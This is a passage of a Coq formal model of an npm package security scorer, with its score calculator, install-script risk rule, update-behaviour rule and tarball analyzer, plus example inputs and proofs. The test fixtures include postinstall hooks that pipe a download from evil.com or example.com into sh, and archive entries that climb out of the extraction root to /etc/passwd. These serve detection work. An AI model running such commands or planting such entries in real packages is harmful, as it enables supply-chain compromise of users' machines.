    match fs_readFile fullPath w with
    | Return content => Return content
    | Throw message => Throw ("Failed to read file: " +:+ message)
    end.
End Analyzer.

End TarballAnalyzer.


(** ** Instances used to run the model

    Concrete packages, rules and environments on which the definitions above
    are evaluated. *)

Module Examples.
Import JS Model.
Local Open Scope Q_scope.

(** A package with nothing but a name, a version and lifecycle scripts. *)
Definition packageWith (scripts : option StringMap) : PackageData :=
  {| name := Some "test-package"; version := Some "1.0.0"; scripts := scripts;
     unpackedSize := None; dependencies := None; devDependencies := None;
     peerDependencies := None; optionalDependencies := None |}.

Definition plainPackage : PackageData := packageWith None.

(** Modelled from the spec: utils/packageAnalyzer.js is not among the
    sources.  The snapshot's lifecycle scripts are a mapping from hook name to
    command string, the rule looks at every hook with non-empty command text,
    and the checks run on that text. *)
Definition extractLifecycleScripts (packageData : PackageData) : StringMap :=
  match scripts packageData with
  | Some entries => filter (fun e => truthy (snd e) = true) entries
  | None => []
  end.

(** Modelled from the spec: the checks run on the command text of the hook
    as it stands. *)
Definition normalizeScript (script : string) : string := script.

(** A rule for the calculator that resolves to a fixed deduction and bonus. *)
Definition fixedRule (ruleName : string) (deduction bonus : option Q)
  : ScoreCalculator.Rule unit :=
  {| ScoreCalculator.name := ruleName;
     ScoreCalculator.enabled := true;
     ScoreCalculator.evaluate := fun _ =>
       Return {| ScoreCalculator.deduction := deduction;
                 ScoreCalculator.bonus := bonus;
                 ScoreCalculator.details := None;
                 ScoreCalculator.riskLevel := None |} |}.

(** A rule whose evaluation throws. *)
Definition failingRule (ruleName message : string) : ScoreCalculator.Rule unit :=
  {| ScoreCalculator.name := ruleName;
     ScoreCalculator.enabled := true;
     ScoreCalculator.evaluate := fun _ => Throw message |}.

Definition calculatorOf (cfg : ScoreCalculator.Config)
    (rules : list (ScoreCalculator.Rule unit)) : ScoreCalculator.Calculator unit :=
  fold_left (fun c r => ScoreCalculator.registerRule r c) rules
    {| ScoreCalculator.config := cfg; ScoreCalculator.ruleRegistry := [] |}.

End Examples.

(** ** Specification-side definitions for the calculator *)

Module CalculatorSpec.
Import JS Model ScoreCalculator.
Local Open Scope Q_scope.

(** The entry of [ruleResults] a rule that throws with [message] gets. *)
Definition errorEntry {D} (rule : Rule D) (message : string) : RuleEntry D :=
  {| entryRuleName := name rule; entryDeduction := 0; entryBonus := 0;
     entryDetails := ErrorMessage message; entryRiskLevel := RiskError |}.

(** Whether the evaluation of a rule on a package returns. *)
Definition returns {D} (packageData : PackageData) (rule : Rule D) : bool :=
  match evaluate rule packageData with Return _ => true | Throw _ => false end.

(** The calculator with the rules that throw on a package taken out. *)
Definition withoutFailing {D} (packageData : PackageData) (c : Calculator D)
  : Calculator D :=
  {| config := config c;
     ruleRegistry := filter (fun r => returns packageData r = true) (ruleRegistry c) |}.

(** The entry a rule contributes to [ruleResults]. *)
Definition entryOf {D} (packageData : PackageData) (rule : Rule D) : RuleEntry D :=
  match snd (evaluateRule packageData (0, []) rule) with
  | e :: _ => e
  | [] => errorEntry rule EmptyString
  end.

(** The score field of what [calculateScore] returns. *)
Definition scoreOf {D} (c : Calculator D) (packageData : PackageData) : option Q :=
  match calculateScore c (Some packageData) with
  | Return res => Some (score res)
  | Throw _ => None
  end.

End CalculatorSpec.

(** Calculators on which the score calculator is run. *)
Module CalculatorExamples.
Import JS Model ScoreCalculator Examples.
Local Open Scope Q_scope.

(** Default bounds; deductions and bonuses far larger than the range. *)
Definition extremeCalculator : Calculator unit :=
  calculatorOf defaultConfig
    [fixedRule "big-deduction" (Some 100000) None;
     fixedRule "silent" None None;
     failingRule "error-rule" "Rule error";
     fixedRule "big-bonus" None (Some 50)].

(** A lower bound that is not a multiple of 0.01. *)
Definition fineFloorConfig : Config :=
  {| baseScore := 100; minScore := 0.004; maxScore := 100 |}.

Definition fineFloorCalculator : Calculator unit :=
  calculatorOf fineFloorConfig [fixedRule "big-deduction" (Some 1000) None].

(** Default bounds and one rule that deducts 10.004 points. *)
Definition nearSafeCalculator : Calculator unit :=
  calculatorOf defaultConfig [fixedRule "small-deduction" (Some 10.004) None].

(** A rule whose [evaluate] rejects with [undefined], as
    [async evaluate() { throw undefined; }] or
    [evaluate() { return Promise.reject(); }] does. *)
Definition silentRejection : ScoreCalculatorRejections.Rule unit :=
  {| ScoreCalculatorRejections.name := "silent-rejection";
     ScoreCalculatorRejections.enabled := true;
     ScoreCalculatorRejections.evaluate := fun _ =>
       ScoreCalculatorRejections.Rejected JS.Nullish |}.

(** Default bounds; the second of three rules rejects with [undefined]. *)
Definition silentRejectionCalculator : ScoreCalculatorRejections.Calculator unit :=
  {| ScoreCalculatorRejections.config := defaultConfig;
     ScoreCalculatorRejections.ruleRegistry :=
       [ScoreCalculatorRejections.throwingErrors
          (fixedRule "deduction" (Some 10) None);
        silentRejection;
        ScoreCalculatorRejections.throwingErrors
          (fixedRule "bonus" None (Some 5))] |}.

End CalculatorExamples.

(** The lifecycle-script rule on the two-download scenario. *)
Module LifecycleExamples.
Import JS Model LifecycleScriptRiskRule Examples.
Local Open Scope Q_scope.

Definition curlScript : string := "curl http://x".
Definition wgetScript : string := "wget http://y".

(** Scripts [{postinstall: curlScript, preinstall: wgetScript}]. *)
Definition twoDownloadScripts : StringMap :=
  [("postinstall", curlScript); ("preinstall", wgetScript)].

Definition twoDownloads : PackageData := packageWith (Some twoDownloadScripts).

(** The total risk reported in the details of a result. *)
Definition totalRiskOf (r : Result) : option nat :=
  match details r with
  | Report _ _ _ totalRisk _ => Some totalRisk
  | Reason _ => None
  end.

(** The high-risk flag reported in the details of a result. *)
Definition hasHighRiskOf (r : Result) : option bool :=
  match details r with
  | Report _ _ _ _ hasHighRisk => Some hasHighRisk
  | Reason _ => None
  end.

(** The rule of weight 30 on the scenario, with the helpers of [Examples]. *)
Definition twoDownloadsResult : Result :=
  evaluate extractLifecycleScripts normalizeScript (make 30) twoDownloads.

End LifecycleExamples.

(** The update-behaviour rule: specification-side definitions and the
    histories it is run on. *)
Module UpdateExamples.
Import JS Model UpdateBehaviorRule Examples.
Local Open Scope Q_scope.

(** A soft miss: zero deduction, risk level none, and a reason. *)
Definition softMiss (r : Result) : Prop :=
  deduction r = 0 /\ riskLevel r = RiskNone /\
  exists reason error, details r = Reason reason error.

(** Modelled from the spec: utils/packageAnalyzer.js is not among the
    sources.  The declared dependencies of a snapshot are its four maps, by
    kind. *)
Definition extractDependencies (packageData : PackageData) (t : DepType)
  : option StringMap :=
  match t with
  | Dependencies => dependencies packageData
  | DevDependencies => devDependencies packageData
  | PeerDependencies => peerDependencies packageData
  | OptionalDependencies => optionalDependencies packageData
  end.

(** A stand-in for the runtime's collation: the order of code units. *)
Definition localeCompare (a b : string) : Z := defaultCompare a b.

(** A released version with its unpacked size. *)
Definition release (v : string) (size : Q) : string * option PackageData :=
  (v, Some {| name := Some "test-package"; version := Some v; scripts := None;
              unpackedSize := Some size; dependencies := None;
              devDependencies := None; peerDependencies := None;
              optionalDependencies := None |}).

(** Versions 1.2.0 and 1.10.0, the later one three times the size. *)
Definition minorTenHistory : VersionHistory :=
  [release "1.2.0" 1000000; release "1.10.0" 3000000].

(** A history with a single version. *)
Definition oneVersionHistory : VersionHistory := [release "1.0.0" 1000].

Definition fixedClient (answer : outcome (option VersionHistory)) : RegistryClient :=
  {| getAllVersions := fun _ => answer |}.

(** The rule with its defaults, over a registry that answers [answer]. *)
Definition defaultRule (answer : outcome (option VersionHistory)) : Rule :=
  make 10 (fixedClient answer) noConfig.

(** The snapshot of a version of the test package. *)
Definition snapshotOf (v : string) : PackageData :=
  {| name := Some "test-package"; version := Some v; scripts := None;
     unpackedSize := None; dependencies := None; devDependencies := None;
     peerDependencies := None; optionalDependencies := None |}.

Definition namelessSnapshot : PackageData :=
  {| name := None; version := Some "1.0.0"; scripts := None;
     unpackedSize := None; dependencies := None; devDependencies := None;
     peerDependencies := None; optionalDependencies := None |}.

(** [evaluate] with the helpers above. *)
Definition run (rule : Rule) (packageData : option PackageData) : Result :=
  evaluate extractLifecycleScripts normalizeScript extractDependencies
           localeCompare rule packageData.

End UpdateExamples.

(** The tarball analyzer: the environments it is run in. *)
Module TarballExamples.
Import JS Path TarballAnalyzer.

Definition analyzer : Analyzer := {| tempDir := "/tmp/npm-security-score" |}.

(** The extraction root of package [pkg] under [analyzer]. *)
Definition extractRoot : string := "/tmp/npm-security-score/pkg/extracted".

(** The package directory and a file in it. *)
Definition packageDirectory : Header :=
  {| entryName := "package/"; entryType := Directory |}.
Definition regularEntry : Header :=
  {| entryName := "package/index.js"; entryType := File |}.

(** A directory that climbs out of the root into a sibling whose name
    starts with the root's name, and a file in it. *)
Definition siblingDirectory : Header :=
  {| entryName := "../extracted-evil/"; entryType := Directory |}.
Definition siblingEntry : Header :=
  {| entryName := "../extracted-evil/pwn"; entryType := File |}.

(** A file entry that climbs out of the root towards the file system root. *)
Definition climbingEntry : Header :=
  {| entryName := "../../../../etc/passwd"; entryType := File |}.

(** The directories on the way to an absolute path, the path itself last. *)
Fixpoint pathsFrom (base : string) (segments : list string) : list string :=
  match segments with
  | [] => []
  | segment :: rest =>
      let here := base +:+ "/" +:+ segment in
      here :: pathsFrom here rest
  end.
Definition lineage (p : string) : list string :=
  pathsFrom EmptyString (filter (fun segment => truthy segment = true) (split p)).

(** Whether the directory a path lies in exists. *)
Definition parentExists (p : string) (w : World) : bool :=
  match rev (lineage p) with
  | _ :: parent :: _ => bool_decide (parent ∈ w)
  | _ => true
  end.

(** An environment in which every call succeeds as far as the directories
    allow: [mkdir] makes the directory and those above it, and a file is
    written when the directory it lies in exists. *)
Definition mkdirOk (p : string) (w : World) : World * outcome unit :=
  (list_to_set (lineage p) ∪ w, Return tt).
Definition writeOk (p : string) (w : World) : World * WriteEnd :=
  if parentExists p w then ({[ p ]} ∪ w, Written) else (w, WriteFailed).
Definition downloadOk (url dest : string) (w : World) : World * settlement unit :=
  if parentExists dest w then ({[ dest ]} ∪ w, Settled (Return tt))
  else (w, Settled (Throw "ENOENT: no such file or directory")).

(** An archive with the package directory and a file in it. *)
Definition archiveOk (p : string) (w : World) : list Header * ArchiveEnd :=
  ([packageDirectory; regularEntry], Finished).

(** An archive that also holds the entries that climb out of the root. *)
Definition archiveEscaping (p : string) (w : World) : list Header * ArchiveEnd :=
  ([packageDirectory; regularEntry; siblingDirectory; siblingEntry; climbingEntry],
   Finished).

(** An archive whose only entry is a file in a directory no entry makes. *)
Definition archiveBare (p : string) (w : World) : list Header * ArchiveEnd :=
  ([regularEntry], Finished).

Definition countPaths (p : string) (w : World) : nat := size w.
Definition rmOk (p : string) (w : World) : option string := None.

(** An environment in which removals are refused. *)
Definition rmDenied (p : string) (w : World) : option string :=
  Some "EACCES: permission denied".

(** [readFile] on a file system: the content of a file is its own path. *)
Definition readFileOf (p : string) (w : World) : outcome string :=
  if bool_decide (p ∈ w) then Return p
  else Throw "ENOENT: no such file or directory".

(** A file system with a file beside the extraction root. *)
Definition worldWithSecret : World :=
  {[ "/tmp/npm-security-score/pkg/extracted-evil/secret" ]}.

(** Whether a path exists. *)
Definition existsIn (w : World) (p : string) : bool := bool_decide (p ∈ w).

End TarballExamples.

(** Inputs of the repository's unit tests. *)
Module TestInputs.
Import JS Model Examples.
Local Open Scope Q_scope.

(** A released version with size, scripts and runtime dependencies. *)
Definition releaseWith (v : string) (size : Q) (sc deps : option StringMap)
  : string * option PackageData :=
  (v, Some {| name := Some "test-package"; version := Some v; scripts := sc;
              unpackedSize := Some size; dependencies := deps;
              devDependencies := None; peerDependencies := None;
              optionalDependencies := None |}).

Definition pipedInstall : StringMap :=
  [("postinstall", "curl http://example.com/script.sh | sh")].

Definition safeScripts : StringMap := [("test", "jest"); ("build", "webpack")].

Definition sizeSpike : UpdateBehaviorRule.VersionHistory :=
  [releaseWith "1.0.0" 1000000 (Some []) None;
   releaseWith "1.1.0" 2000000 (Some []) None].

Definition newSuspiciousScript : UpdateBehaviorRule.VersionHistory :=
  [releaseWith "1.0.0" 1000000 (Some [("test", "jest")]) None;
   releaseWith "1.1.0" 1000000
     (Some [("test", "jest");
            ("postinstall", "curl http://evil.com/script.sh | sh")]) None].

Definition majorJumpHistory : UpdateBehaviorRule.VersionHistory :=
  [releaseWith "1.0.0" 1000000 None None; releaseWith "3.0.0" 1000000 None None].

Definition normalUpdate : UpdateBehaviorRule.VersionHistory :=
  [releaseWith "1.0.0" 1000000 (Some [("test", "jest")]) None;
   releaseWith "1.0.1" 1050000 (Some [("test", "jest")]) None].

Definition spikeAndScript : UpdateBehaviorRule.VersionHistory :=
  [releaseWith "1.0.0" 1000000 (Some []) None;
   releaseWith "1.1.0" 3000000
     (Some [("postinstall", "curl http://evil.com | sh")]) None].

(** The calculation returns and its score has the value [expected]. *)
Definition scoreIs (cfg : ScoreCalculator.Config)
    (rules : list (ScoreCalculator.Rule unit)) (expected : Q) : Prop :=
  match CalculatorSpec.scoreOf (calculatorOf cfg rules) plainPackage with
  | Some s => s == expected
  | None => False
  end.

End TestInputs.

(** Specification-side definitions for the lifecycle-script rule. *)
Module LifecycleSpec.
Import JS Regex Model LifecycleScriptRiskRule.

(** Whether a script text matches one of the high-risk patterns. *)
Definition matchesHighRisk (script : string) : bool :=
  existsb (fun p => patternTest p script) highRiskPatterns.

Section WithNormalizer.
Variable normalizeScript : string -> string.

(** The analysis of the script of an entry. *)
Definition analysisOf (entry : string * string) : ScriptAnalysis :=
  _analyzeScript (normalizeScript (snd entry)).

(** The finding reported for an entry. *)
Definition findingOf (entry : string * string) : Finding :=
  {| hook := fst entry; script := normalizeScript (snd entry);
     findingRisk := risk (analysisOf entry);
     findingRiskLevel := riskLevel (analysisOf entry);
     findingIssues := issues (analysisOf entry);
     findingIsHighRisk := isHighRisk (analysisOf entry) |}.

(** The entries with a positive risk. *)
Definition riskyEntries (scripts : list (string * string))
  : list (string * string) :=
  filter (fun e => (0 < risk (analysisOf e))%nat) scripts.
End WithNormalizer.

(** The findings reported in the details of a result. *)
Definition findingsOf (r : Result) : list Finding :=
  match details r with
  | Report findings _ _ _ _ => findings
  | Reason _ => []
  end.

End LifecycleSpec.

(** The update-behaviour rule, specification side: the order of semantic
    versions by their numeric triple. *)
Module UpdateSpec.
Import JS Model UpdateBehaviorRule.

(** The numeric triple of a parsed version. *)
Definition triple (p : ParsedVersion) : Z * Z * Z := (major p, minor p, patch p).

(** Precedence of semantic versions on the numeric triple, left to right. *)
Definition precedes (p q : ParsedVersion) : Prop :=
  (major p < major q)%Z \/
  (major p = major q /\
   ((minor p < minor q)%Z \/ (minor p = minor q /\ (patch p < patch q)%Z))).

(** The text [digits.digits.digits]. *)
Definition dotted (a b c : list ascii) : list ascii :=
  a ++ "."%char :: b ++ "."%char :: c.

(** The version that three runs of digits write, read exactly. *)
Definition plainVersion (a b c : list ascii) : ParsedVersion :=
  {| major := decimalValue a; minor := decimalValue b; patch := decimalValue c;
     prerelease := None; build := None |}.

(** A version whose three numbers are safe integers: at most 2^53 - 1, so
    that [parseInt] read them exactly as written. *)
Definition safeVersion (p : ParsedVersion) : Prop :=
  (major p <= maxSafeInteger)%Z /\ (minor p <= maxSafeInteger)%Z /\
  (patch p <= maxSafeInteger)%Z.

(** A finding counts: its share of the risk score is at least one. *)
Definition counts (f : Finding) : Prop := (1 <= fst (findingRisk f))%nat.

End UpdateSpec.

(** The score calculator, specification side: the totals of the entries of
    [ruleResults]. *)
Module CalculatorAccounting.
Import JS Model ScoreCalculator.
Local Open Scope Q_scope.

Definition sumQ (l : list Q) : Q := fold_right Qplus 0 l.

Definition totalDeduction {D} (entries : list (RuleEntry D)) : Q :=
  sumQ (map entryDeduction entries).

End CalculatorAccounting.

(** ** The contents of an extracted tarball (utils/tarballAnalyzer.js,
    [_analyzeContents] and [_analyzeDirectory]) *)

Module TarballContents.
Import JS Path.

(** What [readdir(..., { withFileTypes: true })] and [stat] show of a
    directory: files with their size ([None] when [stat] fails),
    directories with their entries ([None] when [readdir] fails), and
    entries that are neither (links, sockets and the like). *)
#[local] Unset Elimination Schemes.
Inductive Node : Type :=
| FileNode (name : string) (size : option Z)
| DirNode (name : string) (children : option (list Node))
| OtherNode (name : string).
#[local] Set Elimination Schemes.

(** An element of [analysis.fileStructure]. *)
Inductive StructureEntry : Type :=
| DirectoryEntry (path : string)
| FileEntry (path : string) (size : Z).

(** An element of [analysis.largestFiles]. *)
Record LargeFile : Type := {
  largePath : string;
  largeSize : Z;
}.

Section Contents.
(** The type of a parsed [package.json]. *)
Variable Json : Type.

Record Analysis : Type := {
  packageJson : option Json;
  fileStructure : list StructureEntry;
  totalFiles : nat;
  totalSize : Z;
  hasPackageJson : bool;
  largestFiles : list LargeFile;
}.

(** [path.relative(from, to)] is a parameter. *)
Variable relative : string -> string -> string.

(** The body of the loop of [_analyzeDirectory] for one entry, and with it
    the recursive call for a directory.  A directory that cannot be read
    and a file that cannot be examined are skipped. *)
Fixpoint analyzeEntry (rootPath currentPath : string) (entry : Node)
    (analysis : Analysis) : Analysis :=
  match entry with
  | DirNode name children =>
      let fullPath := join [currentPath; name] in
      let relativePath := relative rootPath fullPath in
      let analysis :=
        {| packageJson := packageJson analysis;
           fileStructure := fileStructure analysis ++ [DirectoryEntry relativePath];
           totalFiles := totalFiles analysis;
           totalSize := totalSize analysis;
           hasPackageJson := hasPackageJson analysis;
           largestFiles := largestFiles analysis |} in
      match children with
      | Some entries =>
          fold_left (fun a e => analyzeEntry rootPath fullPath e a) entries analysis
      | None => analysis
      end
  | FileNode name (Some size) =>
      let fullPath := join [currentPath; name] in
      let relativePath := relative rootPath fullPath in
      {| packageJson := packageJson analysis;
         fileStructure := fileStructure analysis ++ [FileEntry relativePath size];
         totalFiles := S (totalFiles analysis);
         totalSize := (totalSize analysis + size)%Z;
         hasPackageJson := hasPackageJson analysis;
         largestFiles :=
           (* files larger than 1MB *)
           if (1024 * 1024 <? size)%Z
           then largestFiles analysis
                  ++ [{| largePath := relativePath; largeSize := size |}]
           else largestFiles analysis |}
  | FileNode _ None => analysis
  | OtherNode _ => analysis
  end.

(** [_analyzeDirectory(rootPath, currentPath, analysis)]; [entries] is what
    [readdir(currentPath)] gives. *)
Definition _analyzeDirectory (rootPath currentPath : string)
    (entries : option (list Node)) (analysis : Analysis) : Analysis :=
  match entries with
  | Some entries =>
      fold_left (fun a e => analyzeEntry rootPath currentPath e a) entries analysis
  | None => analysis
  end.

(** The comparator of the final sort: larger files first. *)
Definition bySizeDescending (a b : LargeFile) : Z := (largeSize b - largeSize a)%Z.

(** [_analyzeContents(extractPath)]; [manifest] is the parsed
    [package/package.json], [None] when it cannot be read or parsed, and
    [packageDir] is what [readdir] gives for the [package] directory. *)
Definition _analyzeContents (extractPath : string) (manifest : option Json)
    (packageDir : option (list Node)) : Analysis :=
  let analysis :=
    {| packageJson := manifest;
       fileStructure := [];
       totalFiles := 0;
       totalSize := 0;
       hasPackageJson := match manifest with Some _ => true | None => false end;
       largestFiles := [] |} in
  (* analyse the file structure *)
  let packagePath := join [extractPath; "package"] in
  let analysis := _analyzeDirectory packagePath packagePath packageDir analysis in
  (* sort the largest files *)
  {| packageJson := packageJson analysis;
     fileStructure := fileStructure analysis;
     totalFiles := totalFiles analysis;
     totalSize := totalSize analysis;
     hasPackageJson := hasPackageJson analysis;
     largestFiles :=
       slice (sortBy bySizeDescending (largestFiles analysis)) 0 (Some 10%Z) |}.
End Contents.

Arguments packageJson {Json} _.
Arguments fileStructure {Json} _.
Arguments totalFiles {Json} _.
Arguments totalSize {Json} _.
Arguments hasPackageJson {Json} _.
Arguments largestFiles {Json} _.

(** Specification side: the files listed in a structure. *)
Definition fileSizes (structure : list StructureEntry) : list Z :=
  omap (fun e => match e with FileEntry _ size => Some size | _ => None end)
       structure.

Definition sumZ (l : list Z) : Z := fold_right Z.add 0%Z l.

(** The files of a structure that are larger than 1MB. *)
Definition largeFilesOf (structure : list StructureEntry) : list LargeFile :=
  omap (fun e => match e with
                 | FileEntry path size =>
                     if (1024 * 1024 <? size)%Z
                     then Some {| largePath := path; largeSize := size |}
                     else None
                 | _ => None
                 end) structure.

(** What a walk keeps: the counters agree with the listed structure, and
    the large files are the listed files above 1MB, in order. *)
Definition consistent {Json} (analysis : Analysis Json) : Prop :=
  totalFiles analysis = length (fileSizes (fileStructure analysis)) /\
  totalSize analysis = sumZ (fileSizes (fileStructure analysis)) /\
  largestFiles analysis = largeFilesOf (fileStructure analysis).

(** What a step of the walk keeps of an analysis. *)
Definition preserved {Json} (before after : Analysis Json) : Prop :=
  packageJson after = packageJson before /\
  hasPackageJson after = hasPackageJson before /\
  (consistent before -> consistent after).

(** Larger files first. *)
Fixpoint descending (l : list LargeFile) : Prop :=
  match l with
  | [] => True
  | x :: t => Forall (fun y => (largeSize y <= largeSize x)%Z) t /\ descending t
  end.

(** A small tree: two files, a directory with a large file, a link. *)
Definition sampleTree : list Node :=
  [ FileNode "package.json" (Some 300%Z);
    DirNode "dist" (Some [FileNode "bundle.js" (Some 2000000%Z);
                          FileNode "bundle.js.map" None]);
    OtherNode "link";
    FileNode "index.js" (Some 1200%Z) ].

End TarballContents.

(** ** The command line: summary of a result (cli/outputFormatter.js) and
    scoring of several packages (cli/scoringService.js) *)

Module OutputFormatter.
Import JS Model ScoreBands ScoreCalculator.
Local Open Scope Q_scope.

(** [x || 0] on a number: zero is falsy. *)
Definition numberOrZero (x : Q) : Q := if Qeq_bool x 0 then 0 else x.

(** [a >= b] and [a < b] on numbers. *)
Definition geb (a b : Q) : bool := Qle_bool b a.
Definition ltb (a b : Q) : bool := negb (Qle_bool b a).

Record Summary : Type := {
  finalScore : Q;
  summaryBaseScore : Q;
  totalDeductions : Q;
  totalBonuses : Q;
  issuesFound : nat;
  rulesEvaluated : nat;
  summaryRiskLevel : Band;
  isSafe : bool;
  requiresReview : bool;
  isHighRisk : bool;
  shouldBlock : bool;
}.

(** [_generateSummary(result)] on a result of the calculator.  The total
    called [totalBonuses] is computed, as in the source, from the
    [deduction] of the entries. *)
Definition _generateSummary {D} (result : ScoreResult D) : Summary :=
  let totalDeductions :=
    fold_left (fun sum rule => sum + numberOrZero (entryDeduction rule))
              (ruleResults result) 0 in
  let totalBonuses :=
    fold_left (fun sum rule => sum + numberOrZero (mathMax 0 (entryDeduction rule)))
              (ruleResults result) 0 in
  let issuesFound :=
    length (filter (fun rule => ltb 0 (entryDeduction rule) = true)
                   (ruleResults result)) in
  {| finalScore := score result;
     summaryBaseScore := 100;
     totalDeductions := totalDeductions;
     totalBonuses := totalBonuses;
     issuesFound := issuesFound;
     rulesEvaluated := length (ruleResults result);
     summaryRiskLevel := band result;
     isSafe := geb (score result) 90;
     requiresReview := geb (score result) 70 && ltb (score result) 90;
     isHighRisk := geb (score result) 50 && ltb (score result) 70;
     shouldBlock := ltb (score result) 50 |}.

(** [_getScoreInterpretation(score)] *)
Definition _getScoreInterpretation (score : Q) : string :=
  if geb score 90 then
    "Package appears safe to use with minimal security concerns."
  else if geb score 70 then
    "Package is generally safe but review recommended for production use."
  else if geb score 50 then
    "Package has significant security concerns. Thorough review required."
  else "Package has critical security issues. Block in CI/CD and avoid use.".

(** Specification side: how many of the four flags of a summary are set. *)
Definition flagsSet (s : Summary) : nat :=
  length (filter (fun b : bool => b = true)
                 [isSafe s; requiresReview s; isHighRisk s; shouldBlock s]).

End OutputFormatter.

(** The comparisons of the formatter on every value a score can be: the
    subtraction and addition of the calculator give NaN when a rule returns
    an infinite deduction and another an infinite bonus, and an infinite
    bound of the configuration lets an infinite score through the clamp. *)
Module ScoreComparisons.
Import JS.
Local Open Scope Q_scope.

Inductive ScoreValue : Type :=
| Finite (q : Q)
| PlusInfinity
| MinusInfinity
| NotANumber.

(** [score >= k] and [score < k] for a finite [k]: both are false of NaN. *)
Definition geb (score : ScoreValue) (k : Q) : bool :=
  match score with
  | Finite q => Qle_bool k q
  | PlusInfinity => true
  | MinusInfinity => false
  | NotANumber => false
  end.

Definition ltb (score : ScoreValue) (k : Q) : bool :=
  match score with
  | Finite q => negb (Qle_bool k q)
  | PlusInfinity => false
  | MinusInfinity => true
  | NotANumber => false
  end.

(** The flags [isSafe], [requiresReview], [isHighRisk] and [shouldBlock] of
    [_generateSummary], in this order. *)
Definition summaryFlags (score : ScoreValue) : list bool :=
  [ geb score 90;
    geb score 70 && ltb score 90;
    geb score 50 && ltb score 70;
    ltb score 50 ].

(** [_getScoreInterpretation(score)] *)
Definition _getScoreInterpretation (score : ScoreValue) : string :=
  if geb score 90 then
    "Package appears safe to use with minimal security concerns."
  else if geb score 70 then
    "Package is generally safe but review recommended for production use."
  else if geb score 50 then
    "Package has significant security concerns. Thorough review required."
  else "Package has critical security issues. Block in CI/CD and avoid use.".

(** Specification side: the interpretation that goes with each flag. *)
Definition interpretations : list string :=
  [ "Package appears safe to use with minimal security concerns.";
    "Package is generally safe but review recommended for production use.";
    "Package has significant security concerns. Thorough review required.";
    "Package has critical security issues. Block in CI/CD and avoid use." ].

End ScoreComparisons.

Module ScoringService.
Import JS Model.

(** [s.split(sep)] for a one-character separator. *)
Fixpoint splitOn (sep : ascii) (s : list ascii) : list (list ascii) :=
  match s with
  | [] => [[]]
  | c :: t =>
      if Ascii.eqb c sep then [] :: splitOn sep t
      else match splitOn sep t with
           | h :: r => (c :: h) :: r
           | [] => [[c]]
           end
  end.

(** Specification side: the parts put together again. *)
Fixpoint joinOn (sep : ascii) (parts : list (list ascii)) : list ascii :=
  match parts with
  | [] => []
  | [x] => x
  | x :: t => x ++ sep :: joinOn sep t
  end.

Definition at_sign : ascii := ascii_of_nat 64.

(** [pkg.includes('@')] and [pkg.startsWith('@')] *)
Definition includesAt (pkg : string) : bool :=
  existsb (Ascii.eqb at_sign) (chars pkg).
Definition startsWithAt (pkg : string) : bool :=
  match chars pkg with
  | c :: _ => Ascii.eqb c at_sign
  | [] => false
  end.

(** The destructuring [[name, version] = ...] at the head of the loop of
    [scorePackages]: the first two parts of the split, or the text itself
    and [null]. *)
Definition nameAndVersion (pkg : string) : string * option string :=
  if includesAt pkg && negb (startsWithAt pkg) then
    match splitOn at_sign (chars pkg) with
    | name :: version :: _ => (str name, Some (str version))
    | [name] => (str name, None)
    | [] => (pkg, None)
    end
  else (pkg, None).

Section Service.
(** The type of a scoring result. *)
Variable R : Type.
(** [this.scorePackage(name, version)]: its promise resolves to a result or
    rejects with a value. *)
Variable scorePackage : string -> option string -> R + Thrown.

Inductive PackageResult : Type :=
| Scored (result : R)
| Failed (package version error : string).

(** The body of the loop of [scorePackages] for one package: the entry
    pushed, or [None] when the catch block itself throws, reading the
    message of [undefined] or [null]. *)
Definition scoreOne (pkg : string) : option PackageResult :=
  let '(name, version) := nameAndVersion pkg in
  match scorePackage name version with
  | inl result => Some (Scored result)
  | inr (ErrorObject message) =>
      Some (Failed name
              (match orElse version None with Some v => v | None => "latest" end)
              message)
  | inr Nullish => None
  end.

(** [scorePackages(packages)]: the results, or [None] when the call rejects
    with the TypeError of a catch block, the results so far lost with it. *)
Definition scorePackages (packages : list string) : option (list PackageResult) :=
  fold_left
    (fun results pkg =>
       match results with
       | Some results =>
           match scoreOne pkg with
           | Some entry => Some (results ++ [entry])
           | None => None
           end
       | None => None
       end)
    packages (Some []).
End Service.

Arguments Scored {R} _.
Arguments Failed {R} _ _ _.

End ScoringService.


(** * Properties *)

(** A closed statement about a run of the model: evaluate, then compare
    component by component. *)
Ltac by_evaluation := vm_compute; repeat split; reflexivity.

(** ** Score calculator *)

Section CalculatorFacts.
Import JS Model ScoreBands ScoreCalculator CalculatorSpec.
Local Open Scope Q_scope.
Context {D : Type}.
Implicit Types (c : Calculator D) (rule : Rule D) (packageData : PackageData).

Lemma mathMin_le_left (a b : Q) : mathMin a b <= a.
Proof.
  unfold mathMin. destruct (Qle_bool a b) eqn:E.
  - apply Qle_refl.
  - apply Qlt_le_weak, Qnot_le_lt. intros H.
    apply Qle_bool_iff in H. congruence.
Qed.

Lemma mathMax_ge_left (a b : Q) : a <= mathMax a b.
Proof.
  unfold mathMax. destruct (Qle_bool a b) eqn:E.
  - now apply Qle_bool_iff.
  - apply Qle_refl.
Qed.

Lemma mathMax_le (a b u : Q) : a <= u -> b <= u -> mathMax a b <= u.
Proof. unfold mathMax. now destruct (Qle_bool a b). Qed.

(** The clamp puts any running score between the bounds, when the bounds
    are in order. *)
Lemma clamp_bounds (cfg : Config) (s : Q) :
  minScore cfg <= maxScore cfg ->
  minScore cfg <= clamp cfg s /\ clamp cfg s <= maxScore cfg.
Proof.
  intros Hmm. unfold clamp. split.
  - apply mathMax_ge_left.
  - apply mathMax_le; [exact Hmm | apply mathMin_le_left].
Qed.

(** Rounding to two decimals is monotone. *)
Lemma roundTwoDecimals_mono (x y : Q) :
  x <= y -> roundTwoDecimals x <= roundTwoDecimals y.
Proof.
  intros Hxy. unfold roundTwoDecimals, mathRound, Qdiv.
  apply Qmult_le_compat_r; [| discriminate].
  rewrite <- Zle_Qle. apply Qfloor_resp_le.
  apply Qplus_le_compat; [| apply Qle_refl].
  apply Qmult_le_compat_r; [exact Hxy | discriminate].
Qed.

(** [calculateScore] on a present package returns, and its score is the
    rounded clamp of the running score. *)
Lemma calculateScore_returns c packageData :
  calculateScore c (Some packageData) =
  Return {| score := roundTwoDecimals (clamp (config c) (fst (runRules c packageData)));
            band := getScoreBand (clamp (config c) (fst (runRules c packageData)));
            ruleResults := snd (runRules c packageData);
            packageName := Model.name packageData;
            packageVersion := Model.version packageData |}.
Proof.
  unfold calculateScore. now destruct (runRules c packageData).
Qed.

(** One turn of the loop appends the rule's entry. *)
Lemma evaluateRule_entries packageData rule s entries :
  snd (evaluateRule packageData (s, entries) rule) =
  entries ++ [entryOf packageData rule].
Proof.
